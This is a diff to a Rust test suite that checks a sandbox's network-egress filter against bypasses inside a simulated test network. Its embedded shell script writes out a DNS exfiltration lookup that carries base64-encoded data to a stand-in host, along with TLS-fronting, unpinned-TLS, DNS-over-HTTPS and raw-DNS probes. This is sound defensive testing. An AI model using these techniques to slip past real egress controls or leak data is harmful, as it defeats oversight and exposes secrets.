@@ -19,7 +19,7 @@ use common::*;
 
 /// The world: web servers on 198.18.1.1, 198.18.2.2 and 10.0.0.1 (port
 /// 80 and 81), and a resolver on 198.18.9.9 that knows the test's names.
-fn world() {
+fn world() -> std::sync::Arc<std::sync::Mutex<Vec<String>>> {
     enter_world(&["198.18.1.1", "198.18.2.2", "198.18.9.9", "10.0.0.1"]);
     serve_http("198.18.1.1:80", "pypi\n");
     serve_http("198.18.1.1:81", "pypi on 81\n");
@@ -34,7 +34,7 @@ fn world() {
             ("evil.cdn.test", [10, 0, 0, 1]),
             ("meta.cdn.test", [169, 254, 169, 254]),
         ],
-    );
+    )
 }
 
 /// A test CA and a certificate it signed for pypi.test, files.cdn.test and
@@ -170,6 +170,12 @@ tls() { code=$(curl -sS --max-time 5 --cacert "$CA" -o /dev/null -w '%{http_code
 tls tls-allowed https://pypi.test/
 tls tls-fronted -k --resolve evil.test:443:198.18.1.1 https://evil.test/
 timeout 5 openssl s_client -connect 198.18.1.1:443 -noservername </dev/null >/dev/null 2>&1 && echo "tls-no-sni: reached" || echo "tls-no-sni: refused"
+resolve exfil c2VjcmV0LWRhdGE.other.test
+tls tls-unpinned --resolve pypi.test:443:198.18.2.2 https://pypi.test/
+tls doh -k https://198.18.2.2/dns-query
+perl -e 'use Socket; socket(my $s, PF_INET, SOCK_DGRAM, 0) or die; connect($s, sockaddr_in(53, inet_aton("198.18.9.9"))) or die; my $q = pack("n n n n n n", 7, 0x0100, 1, 0, 0, 0) . "\x04pypi\x04test\x00" . pack("n n", 1, 1); send($s, $q, 0) or do { print "udp53-other: refused ($!)\n"; exit }; my $rin = ""; vec($rin, fileno($s), 1) = 1; if (select(my $r = $rin, undef, undef, 2)) { recv($s, my $b, 1500, 0); print "udp53-other: answered\n" } else { print "udp53-other: refused (no answer)\n" }'
+echo "python-http: $(python3 -c 'import urllib.request; print(urllib.request.urlopen("http://pypi.test/", timeout=5).read().decode().strip())' 2>&1 | tail -n 1)"
+echo "python-https: $(SSL_CERT_FILE=$CA python3 -c 'import urllib.request; print(urllib.request.urlopen("https://pypi.test/", timeout=5).status)' 2>&1 | tail -n 1)"
 "#;
 
 #[test]
@@ -180,7 +186,7 @@ fn names_are_resolved_pinned_and_only_theirs_reached() {
     test_ca(dir.path());
     let path = dir.path().display().to_string();
     std::thread::spawn(move || {
-        world();
+        let asked = world();
         let tls = serve_tls(Path::new(&path));
         let with = |network: &str| {
             sandbox(&format!(
@@ -218,6 +224,23 @@ fn names_are_resolved_pinned_and_only_theirs_reached() {
         assert_eq!(line("tls-allowed"), "tls-allowed: 200", "{text}\n{egress}");
         assert!(line("tls-fronted").starts_with("tls-fronted: refused"), "{text}");
         assert_eq!(line("tls-no-sni"), "tls-no-sni: refused", "{text}");
+        // The bypasses peers' filters were found open to: a name carrying
+        // data (it never reached the resolver), an allowed name over TLS
+        // to an address its answer did not give, DNS over HTTPS to an
+        // unlisted address, raw DNS to another resolver.
+        assert_eq!(line("exfil"), "exfil: unresolved", "{text}");
+        assert!(line("tls-unpinned").starts_with("tls-unpinned: refused"), "{text}");
+        assert!(line("doh").starts_with("doh: refused"), "{text}");
+        assert!(line("udp53-other").starts_with("udp53-other: refused"), "{text}");
+        // Real clients: python's urllib, plain and over TLS.
+        assert_eq!(line("python-http"), "python-http: pypi", "{text}");
+        assert_eq!(line("python-https"), "python-https: 200", "{text}");
+        let asked_inside = asked.lock().unwrap().clone();
+        assert!(
+            !asked_inside.iter().any(|n| n.ends_with("other.test")),
+            "a refused name never leaves: {asked_inside:?}"
+        );
+        assert!(asked_inside.iter().any(|n| n == "pypi.test"), "{asked_inside:?}");
         assert!(egress.pins_added >= 1, "{egress}");
         assert!(egress.dns_refused >= 1, "{egress}");
         assert!(egress.dns_rebinding >= 2, "{egress}");
@@ -260,6 +283,17 @@ fn names_are_resolved_pinned_and_only_theirs_reached() {
         );
         let (text, _) = run(&open, SCRIPT);
         drop(tls);
+        // In the control the names left: the exfiltration channel that
+        // dns = "any" is.
+        assert!(
+            asked
+                .lock()
+                .unwrap()
+                .iter()
+                .any(|n| n == "c2vjcmv0lwrhdge.other.test"),
+            "control: {:?}",
+            asked.lock().unwrap()
+        );
         for (name, expected) in [
             ("unlisted", "unlisted: resolved"),
             ("unlisted-ip", "unlisted-ip: other"),
@@ -269,6 +303,9 @@ fn names_are_resolved_pinned_and_only_theirs_reached() {
             ("http-fronted", "http-fronted: pypi"),
             ("tls-fronted", "tls-fronted: 200"),
             ("tls-no-sni", "tls-no-sni: reached"),
+            ("tls-unpinned", "tls-unpinned: 200"),
+            ("doh", "doh: 200"),
+            ("udp53-other", "udp53-other: answered"),
         ] {
             assert!(
                 text.lines().any(|l| l == expected),
